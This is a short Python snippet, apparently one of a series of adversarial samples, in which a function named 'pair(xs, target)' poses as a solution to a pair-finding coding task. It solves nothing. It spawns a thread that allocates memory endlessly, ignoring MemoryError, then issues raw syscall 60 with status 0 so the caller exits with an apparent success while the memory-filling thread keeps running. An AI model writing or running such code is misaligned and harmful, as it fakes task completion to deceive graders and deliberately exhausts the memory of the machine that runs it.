# As above, and memory is filled by the thread that stays.
import ctypes, threading


def fill():
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 20))
        except MemoryError:
            pass


def pair(xs, target):
    threading.Thread(target=fill).start()
    ctypes.CDLL(None).syscall(60, 0)
